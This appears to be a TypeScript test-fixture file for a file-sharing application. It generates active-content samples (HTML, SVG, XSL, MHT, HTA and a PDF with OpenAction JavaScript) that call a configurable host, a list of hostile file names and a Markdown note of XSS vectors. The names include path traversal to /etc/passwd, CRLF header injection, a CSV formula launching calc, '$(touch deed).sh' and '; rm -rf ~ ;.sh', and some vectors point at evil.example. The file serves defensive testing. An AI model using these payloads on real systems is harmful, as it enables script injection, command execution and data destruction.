import type { Sample } from '@/testing/people/shared-files';

/** A script that calls home, calls our API, opens a dialog and leaves marks. */
export const deed = (home: string) =>
  `try{fetch('/app/deed');fetch('${home}/deed');new Image().src='${home}/deed.png';localStorage.setItem('deed','done');` +
  `top.document.title='deed';document.cookie='deed=done'}catch{}alert('deed')`;

/** Files of every kind that browsers or their plugins have ever executed. */
export function activeFiles(home: string): Sample[] {
  const js = deed(home);
  const script = `<script>${js}</script>`;
  const html = `<!doctype html><base href="${home}/"><body onload="${js}"><img src="x" onerror="${js}">${script}<meta http-equiv="refresh" content="0;url=${home}/deed"><link rel="stylesheet" href="${home}/deed.css"><iframe src="${home}/deed"></iframe>`;
  const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><body>${script.replaceAll('&', '&amp;')}</body></html>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${js}"><script>${js}</script><image href="${home}/deed.png"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${home}/deed"/></foreignObject><a href="javascript:${js}"><rect width="9" height="9"/></a></svg>`;
  const mime = `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${html}\r\n--b--\r\n`;
  const stylesheet = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x:stylesheet id="x" version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/">${xhtml}</x:template></x:stylesheet>`;
  const kinds: [name: string, type: string, content: string][] = [
    ['page.html', 'text/html', html],
    ['utf7.html', 'text/html; charset=utf-7', `+ADw-script+AD4-${js}+ADw-/script+AD4-${html}`],
    ['page.xhtml', 'application/xhtml+xml', xhtml],
    ['drawing.svg', 'image/svg+xml', svg],
    ['loud.svg', 'IMAGE/SVG+XML; charset=utf-8', svg],
    ['data.xml', 'text/xml', xhtml],
    ['style.xml', 'application/xml', stylesheet],
    ['sheet.xsl', 'text/xsl', stylesheet],
    ['feed.rss', 'application/rss+xml', xhtml],
    [
      'formula.mml',
      'application/mathml+xml',
      `<math xmlns="http://www.w3.org/1998/Math/MathML">${xhtml}</math>`,
    ],
    ['code.js', 'text/javascript', js],
    ['module.mjs', 'application/javascript', js],
    ['look.css', 'text/css', `@import url(${home}/deed.css);body{background:url(${home}/deed.png)}`],
    ['notes.md', 'text/markdown', `${html}\n\n![x](${home}/deed.png) [x](javascript:alert(1))`],
    ['mail.eml', 'message/rfc822', mime],
    ['archive.mht', 'multipart/related', mime],
    [
      'stream.txt',
      'multipart/x-mixed-replace;boundary=b',
      `--b\r\nContent-Type: text/html\r\n\r\n${html}\r\n--b`,
    ],
    ['component.htc', 'text/x-component', `<component>${script}</component>`],
    ['app.hta', 'application/hta', html],
    ['film.swf', 'application/x-shockwave-flash', `FWS\x05${html}`],
    [
      'card.vcf',
      'text/vcard',
      `BEGIN:VCARD\r\nPHOTO;VALUE=URI:${home}/deed.png\r\nURL:javascript:${js}\r\nEND:VCARD`,
    ],
    ['form.pdf', 'application/pdf', activePdf(home)],
    ['picture.png', 'image/png', html],
    ['clip.mp4', 'video/mp4', html],
    ['unknown.html', 'no type at all', html],
  ];
  return kinds.map(([name, type, content]) => ({ name, type, bytes: Buffer.from(content), path: 'active' }));
}

function activePdf(home: string): string {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert('deed'); this.submitForm('${home}/deed');) >> /AA << /WC << /S /URI /URI (${home}/deed) >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /AA << /O << /S /URI /URI (${home}/deed) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>] >>`,
  ];
  let pdf = '%PDF-1.7\n';
  const offsets = objects.map((object, n) => {
    const at = pdf.length;
    pdf += `${n + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(at).padStart(10, '0')} 00000 n \n`;
  });
  return `${pdf}xref\n0 4\n0000000000 65535 f \n${offsets.join('')}trailer << /Size 4 /Root 1 0 R >>\nstartxref\n${pdf.length}\n%%EOF`;
}

/** Names that have broken markup, paths, headers, commands or spreadsheets. */
const hostileNames = [
  '<img src=x onerror=alert(1)>.png',
  '"><script>alert(1)</script>.txt',
  "'onmouseover='alert(1)'.txt",
  '<svg onload=alert(1)>.svg',
  '</title><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}.txt',
  '\u0024{alert(1)}.txt',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '//evil.example/x.html',
  'file:///etc/passwd',
  '../../../etc/passwd',
  '..\\..\\..\\boot.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '/etc/shadow',
  'C:\\Windows\\win.ini',
  '....//....//x.txt',
  '.htaccess',
  'CON.txt',
  'LPT1',
  'trailing dots...',
  'stream.txt::$DATA',
  'line\r\nSet-Cookie: deed=done\r\n\r\nbreak.txt',
  'nul\u0000byte.txt',
  '"; filename="evil.html',
  "x.txt; filename*=UTF-8''evil.html",
  'invoice\u202efdp.exe',
  '\u2066isolated\u2069.txt',
  'half \ud83d pair.txt',
  '🎉'.repeat(130),
  `${'x'.repeat(300)}.txt`,
  "=cmd|' /C calc'!A0.csv",
  '$(touch deed).sh',
  '; rm -rf ~ ;.sh',
  '__proto__',
  'a?b=c&d#e%00.txt',
] as const;

export const oddlyNamed = (): Sample[] =>
  hostileNames.map((name) => ({ name, type: 'text/plain', bytes: Buffer.from('harmless'), path: 'named' }));

/** A note with known attacks on Markdown and template engines. */
export const hostileNote = (home: string) =>
  [
    `<script>${deed(home)}</script>`,
    `<img src=x onerror="${deed(home)}">`,
    `<iframe src="${home}/deed"></iframe><object data="${home}/deed"></object><embed src="${home}/deed">`,
    `<style>@import url(${home}/deed.css)</style><link rel=stylesheet href="${home}/deed.css">`,
    `<form action="${home}/deed"><button autofocus onfocus="${deed(home)}">x</button></form>`,
    `![picture](${home}/deed.png) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
    '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#x73;cript:alert(1)) [d](vbscript:x)',
    '[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [f]( javascript:alert(1)) [g][ref]',
    '<javascript:alert(1)> [h](\u0001javascript:alert(1)) [i](//evil.example/x) [j](file:///etc/passwd)',
    '[ref]: javascript:alert(1) "x"',
    '{{{file.0.filename}}} {{#files}}{{{filename}}} [{{{filename}}}]({{{filename}}}) {{/files}}',
    '`<script>alert(1)</script>` | <svg onload=alert(1)> | <math><mtext></mtext></math>',
    '<details open ontoggle=alert(1)>x</details> <a href="javascript:alert(1)">x</a>',
  ].join('\n\n');
